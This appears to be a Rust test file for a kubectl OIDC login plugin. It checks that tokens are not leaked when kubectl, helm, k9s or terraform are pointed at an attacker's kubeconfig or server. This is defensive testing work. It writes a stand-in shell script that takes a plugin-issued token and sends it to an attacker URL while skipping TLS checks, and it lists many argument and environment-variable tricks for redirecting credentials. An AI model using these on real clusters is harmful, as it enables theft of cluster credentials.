//! Threats 1 and 26: whoever asks decides for itself which server it talks to. What its name, arguments and
//! environment say of that, read as another reads them, is where a token goes astray.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use playground::AttackerApi;
use serde_json::Value;
use world::person::{Said, said};

use crate::scene::{ONE_REQUEST, Scene, Seat, attackers, server};
use crate::table::Table;

/// A program's name, its arguments, and its variables.
type Run = (
    &'static str,
    &'static [&'static str],
    &'static [(&'static str, &'static str)],
);

/// kubectl under another name, and programs that are not kubectl, each told to use the attacker's file or server.
pub(crate) async fn others(table: &Table) -> Result<()> {
    let scene = Scene::signed_in(Seat::default()).await?;
    let programs = Programs::new(&scene)?;
    for (what, program) in [
        ("k, a link to kubectl", &programs.link),
        ("k, a copy of kubectl", &programs.copy),
        ("kubectl.1.33, as gcloud has it", &programs.versioned),
    ] {
        let attacker = AttackerApi::start().await?;
        let file = programs.hostile(&scene, &attacker)?;
        let run = |file: &str| {
            let mut command = scene.person.command(as_str(program)?);
            command.args(["--kubeconfig", file]).args(ONE_REQUEST);
            said(command.output()?)
        };
        refused(&scene, &attacker, what, Asked::ByName, || run(&file))?;
        let row = format!("{what}, with --kubeconfig of the attacker's");
        table.row(1, row, "asked once, by its name; no token");
        let own = scene.person.home.join(".kube/config").display().to_string();
        quiet(&scene, what, || run(&own))?;
        println!("  control: {what}, with --kubeconfig of the person's own: served, no question");
    }

    let by_file: [Run; 10] = [
        ("kubectl-x", &["--kubeconfig", "FILE"], &[]),
        ("kubectl-x", &["-f", "FILE"], &[]),
        ("kubectl-x", &["-fFILE"], &[]),
        ("helm", &["ls", "--kubeconfig", "FILE"], &[]),
        ("helm", &["ls", "--kubeconfig=FILE"], &[]),
        ("k9s", &["--kubeconfig", "hostile-link"], &[]),
        ("terraform", &["apply"], &[("KUBE_CONFIG_PATH", "FILE")]),
        (
            "terraform",
            &["apply"],
            &[("KUBE_CONFIG_PATHS", "/nothing:FILE")],
        ),
        ("terraform", &["-var=path=FILE"], &[]),
        ("helm", &["ls"], &[("ARGS", "--kubeconfig=FILE")]),
    ];
    for (name, arguments, variables) in by_file {
        let attacker = AttackerApi::start().await?;
        let file = programs.hostile(&scene, &attacker)?;
        let link = scene.person.home.join("hostile-link");
        drop(fs::remove_file(&link));
        symlink(&file, &link)?;
        let what = shown(name, arguments, variables);
        let run = || {
            let told = |text: &str| text.replace("FILE", &file);
            programs.stand_in(&scene, name, &attacker, arguments, variables, told)
        };
        refused(&scene, &attacker, &what, Asked::ByName, run)?;
        table.row(1, what, "asked once, by its name; no token");
    }

    let by_server: [Run; 6] = [
        ("helm", &["ls", "--kube-apiserver", "URL"], &[]),
        ("helm", &["ls", "--kube-apiserver=URL"], &[]),
        ("helm", &["ls"], &[("HELM_KUBEAPISERVER", "URL")]),
        ("kubectl-x", &["--server=URL"], &[]),
        ("terraform", &["apply"], &[("KUBE_HOST", "URL")]),
        ("python", &["apply"], &[("K8S_AUTH_HOST", "URL")]),
    ];
    for (name, arguments, variables) in by_server {
        let attacker = AttackerApi::start().await?;
        let what = shown(name, arguments, variables);
        let run = || {
            let told = |text: &str| text.replace("URL", attacker.url());
            programs.stand_in(&scene, name, &attacker, arguments, variables, told)
        };
        refused(&scene, &attacker, &what, Asked::Unknown, run)?;
        table.row(1, what, "for a server that can't be known: asked; no token");
    }
    scene.works("after all that")
}

/// The same programs on the person's own file, as they are run every day: nobody is asked.
pub(crate) async fn quiet_others(table: &Table) -> Result<()> {
    let scene = Scene::signed_in(Seat::default()).await?;
    let programs = Programs::new(&scene)?;
    let nobody = AttackerApi::start().await?;
    let ordinary: [Run; 12] = [
        ("helm", &["ls", "-A"], &[]),
        ("helm", &["ls", "--kubeconfig", "OWN"], &[]),
        (
            "helm",
            &["ls", "--kubeconfig=OWN", "--kube-context", "own"],
            &[],
        ),
        ("helm", &["ls", "--kube-apiserver", "SERVER"], &[]),
        (
            "helm",
            &["ls"],
            &[("HELM_KUBEAPISERVER", ""), ("HELM_KUBECONTEXT", "own")],
        ),
        (
            "helm",
            &["install", "x", "x", "--repo", "https://charts.example"],
            &[],
        ),
        (
            "helm",
            &[
                "install",
                "x",
                "https://charts.example/x.tgz",
                "-f",
                "values.yaml",
            ],
            &[],
        ),
        (
            "helm",
            &["upgrade", "x", ".", "--set", "url=https://y.example,a=b"],
            &[],
        ),
        (
            "kubectl-x",
            &["--kubeconfig", ".kube/config", "-n", "x"],
            &[],
        ),
        (
            "kubectl-x",
            &["get", "pods", "-ojson", "--context", "own"],
            &[],
        ),
        (
            "k9s",
            &["--context=own", "--readonly"],
            &[("KUBE_EDITOR", "vi")],
        ),
        (
            "k9s",
            &[],
            &[("HTTPS_PROXY", ""), ("VAULT_ADDR", "https://vault.example")],
        ),
    ];
    fs::write(
        scene.person.home.join("values.yaml"),
        "clusters: {a: {server: b}}\n",
    )?;
    let own = scene.person.home.join(".kube/config").display().to_string();
    for (name, arguments, variables) in ordinary {
        let what = shown(name, arguments, variables);
        let run = || {
            let own = |text: &str| text.replace("OWN", &own);
            let told = |text: &str| own(text).replace("SERVER", scene.playground.kube_url());
            programs.stand_in(&scene, name, &nobody, arguments, variables, told)
        };
        // It hands over what it gets, as everybody who is trusted may.
        let before = (scene.questions()?.len(), nobody.seen().len());
        let said = run()?;
        ensure!(!said.err.contains("[trust-refused"), "{what}: {said:?}");
        ensure!(
            scene.questions()?.len() == before.0,
            "{what}: somebody was asked"
        );
        ensure!(nobody.seen().len() > before.1, "{what}: no token: {said:?}");
        table.row(
            1,
            format!("{what}: an everyday command"),
            "served; no question",
        );
    }
    Ok(())
}

/// kubectl's own arguments, in every way in which kubectl reads them and somebody else might not.
pub(crate) async fn arguments(table: &Table) -> Result<()> {
    let scene = Scene::set(Seat::default()).await?;
    let attacker = AttackerApi::start().await?;
    // As with public authorities: the person's own cluster's is also the attacker's.
    let both = format!("{}{}", scene.playground.ca_pem(), attacker.ca_pem());
    let own_server = server(scene.playground.kube_url(), &both);
    let exec = || scene.exec("kubectl", &[]);
    let own = scene.kubeconfig(&[("own", own_server.clone())], exec());
    scene.person.kubeconfig(&own.to_string())?;
    scene.works("at first")?;
    let kubectl = |words: &[&str]| scene.person.kubectl(words);
    for line in [
        "get --raw /api -s URL",
        "get ns -As URL",
        "get ns -As=URL",
        "get ns -AsURL",
        "get ns -wAs=URL",
        "get ns -A=true -s URL",
        "get ns --no-headers -oname -AsURL",
        "get ns -Lx -l x=y -As URL",
        "-s URL get ns",
        "get ns -v=0 --server=URL",
        "logs -fs URL x",
    ] {
        let line = line.replace("URL", attacker.url());
        let words: Vec<&str> = line.split(' ').collect();
        let before = scene.questions()?.len();
        let said = kubectl(&words)?;
        ensure!(
            !attacker.saw_authorization(),
            "{line}: {:?}",
            attacker.seen()
        );
        let asked = scene.questions()?.split_off(before);
        let named = asked.iter().all(|text| text.contains(attacker.url()));
        ensure!(
            !said.ok && said.err.contains("[trust-refused"),
            "{line}: {said:?}"
        );
        ensure!(named && asked.len() <= 1, "{line}: {asked:?}");
        let row = line.replace(attacker.url(), "URL");
        table.row(
            26,
            format!("kubectl {row}"),
            "asked once in all, by its name; no token",
        );
    }

    // The current context is the attacker's; what looks like another one is some flag's value.
    for line in [
        "get ns -n --context=own",
        "get ns -L --context=own",
        "get ns -AL --context=own",
        "get ns -l --context=own",
        "get ns --sort-by --context=own",
        "get ns --field-selector --context=own",
        "get ns -o --context=own",
        "apply -f --context=own",
        "logs x -c --context=own",
        "patch ns x -p --context=own",
        "get ns -- --context=own",
    ] {
        let attacker = AttackerApi::start().await?;
        let servers = [("evil", attackers(&attacker)), ("own", own_server.clone())];
        let file = scene.hostile("both", &scene.kubeconfig(&servers, exec()))?;
        let words: Vec<&str> = line.split(' ').collect();
        let run = || kubectl(&[&["--kubeconfig", &file], words.as_slice()].concat());
        let before = scene.questions()?.len();
        let said = run()?;
        ensure!(!said.ok, "{line}: {said:?}");
        ensure!(
            !attacker.saw_authorization(),
            "{line}: {:?}",
            attacker.seen()
        );
        let asked = scene.questions()?.split_off(before);
        let named = asked.iter().all(|text| text.contains(attacker.url()));
        ensure!(named && asked.len() <= 1, "{line}: {asked:?}");
        let outcome = if asked.is_empty() {
            "kubectl asks for none; no token"
        } else {
            "asked once, by its name; no token"
        };
        table.row(26, format!("kubectl {line}"), outcome);
    }

    for line in [
        "get ns -A",
        "get ns -Aoname",
        "get ns -Ao name",
        "get ns -nkube-system",
        "get ns -n=default -L a,b -l a!=b",
        "get ns -oname --sort-by .metadata.name --chunk-size=5",
        "get ns --no_headers -v0",
        "get ns --context own --cluster own --user me",
        "get --raw=/api/v1/namespaces -v=0",
        "--context=own get ns --show-labels -owide",
        "auth can-i get pods -q",
        "get ns -s SERVER",
        "describe ns --show-events=false",
        "logs -fp x -cy --tail=1",
        "exec -it x -cy -- kubectl --context=evil",
        "annotate ns x a=b --dry-run=server --overwrite",
    ] {
        let line = line.replace("SERVER", scene.playground.kube_url());
        let words: Vec<&str> = line.split(' ').collect();
        let before = (scene.questions()?.len(), scene.served());
        let said = kubectl(&words)?;
        ensure!(!said.err.contains("[trust"), "{line}: {said:?}");
        ensure!(
            scene.questions()?.len() == before.0,
            "{line}: somebody was asked"
        );
        ensure!(
            scene.served() > before.1,
            "{line}: it never asked: {said:?}"
        );
        table.row(
            26,
            format!("kubectl {line}"),
            "the person's own: served, no question",
        );
    }
    Ok(())
}

/// Where a question comes from.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Asked {
    /// Of the attacker's server, once.
    ByName,
    /// Of a server that can't be known; the answer to one such question holds for the next.
    Unknown,
}

/// Nothing reaches the attacker, and the person is asked.
pub(super) fn refused(
    scene: &Scene,
    attacker: &AttackerApi,
    what: &str,
    how: Asked,
    run: impl FnOnce() -> Result<Said>,
) -> Result<()> {
    let before = scene.questions()?.len();
    let said = run()?;
    ensure!(
        !attacker.saw_authorization(),
        "{what}: the token went to the attacker: {:?}",
        attacker.seen()
    );
    ensure!(
        !said.ok && said.err.contains("[trust-refused"),
        "{what}: {said:?}\n{}",
        scene.person.log()
    );
    let asked = scene.questions()?.split_off(before);
    let expected = match how {
        Asked::ByName => matches!(asked.as_slice(), [one] if one.contains(attacker.url())),
        Asked::Unknown => asked.len() <= 1,
    };
    ensure!(expected, "{what}: {asked:?}");
    Ok(())
}

/// It is served, and nobody is asked.
pub(super) fn quiet(scene: &Scene, what: &str, run: impl FnOnce() -> Result<Said>) -> Result<()> {
    let before = scene.questions()?.len();
    let said = run()?;
    ensure!(said.ok, "{what}: {said:?}\n{}", scene.person.log());
    ensure!(
        scene.questions()?.len() == before,
        "{what}: somebody was asked"
    );
    Ok(())
}

fn shown(name: &str, arguments: &[&str], variables: &[(&str, &str)]) -> String {
    let variables = variables
        .iter()
        .map(|(name, value)| format!("{name}={value}"));
    let words = [name].into_iter().chain(arguments.iter().copied());
    let words = variables.chain(words.map(str::to_owned));
    words.collect::<Vec<_>>().join(" ")
}

/// Programs of all kinds that a person has.
pub(super) struct Programs {
    folder: PathBuf,
    link: PathBuf,
    copy: PathBuf,
    versioned: PathBuf,
    /// What every stand-in does: it has the plugin give it a token, and takes that to the server that it was told of.
    script: PathBuf,
}

impl Programs {
    pub(super) fn new(scene: &Scene) -> Result<Self> {
        let folder = scene.folder.join("programs");
        let copies = folder.join("copies");
        fs::create_dir_all(&copies)?;
        let kubectl = scene.person.path().join("kubectl");
        let (link, copy) = (folder.join("k"), copies.join("k"));
        let versioned = folder.join("kubectl.1.33");
        symlink(&kubectl, &link)?;
        fs::copy(&kubectl, &copy)?;
        fs::copy(&kubectl, &versioned)?;
        let script = folder.join("stand-in");
        let stanza = scene.exec("kubectl", &[]);
        let words = stanza["args"]
            .as_array()
            .context("a stanza has arguments")?;
        let plugin: Vec<String> = words
            .iter()
            .skip(1)
            .filter_map(Value::as_str)
            .map(|word| format!("'{word}'"))
            .collect();
        let text = format!(
            "answer=$(KUBERNETES_EXEC_INFO='{}' kubectl-oidc_login {}) || exit $?\n\
             token=$(printf %s \"$answer\" | sed 's/.*\"token\":\"\\([^\"]*\\)\".*/\\1/')\n\
             exec kubectl --kubeconfig /dev/null --server \"$WHERE\" --insecure-skip-tls-verify \\\n  \
             --token \"$token\" get --raw /api\n",
            scene.exec_info_without_cluster(),
            plugin.join(" ")
        );
        fs::write(&script, text)?;
        Ok(Self {
            folder,
            link,
            copy,
            versioned,
            script,
        })
    }

    /// A file of the attacker's, with the person's flags.
    pub(super) fn hostile(&self, scene: &Scene, attacker: &AttackerApi) -> Result<String> {
        let servers = [("prod", attackers(attacker))];
        let file = scene.kubeconfig(&servers, scene.exec("kubectl", &[]));
        scene.hostile("hostile", &file)
    }

    /// Runs a program of this name as a person would, that is told so and goes to the attacker's.
    pub(super) fn stand_in(
        &self,
        scene: &Scene,
        name: &str,
        attacker: &AttackerApi,
        arguments: &[&str],
        variables: &[(&str, &str)],
        told: impl Fn(&str) -> String,
    ) -> Result<Said> {
        let program = self.folder.join(name);
        if !program.exists() {
            fs::copy("/bin/sh", &program)?;
            fs::set_permissions(&program, fs::Permissions::from_mode(0o755))?;
        }
        let mut command = scene.person.command(as_str(&program)?);
        command.arg(&self.script);
        command.args(arguments.iter().map(|word| told(word)));
        command.envs(variables.iter().map(|(name, value)| (name, told(value))));
        command.env("WHERE", attacker.url());
        said(command.output().context("can't be started")?)
    }
}

fn as_str(path: &Path) -> Result<&str> {
    OsStr::to_str(path.as_os_str()).context("a path is text")
}
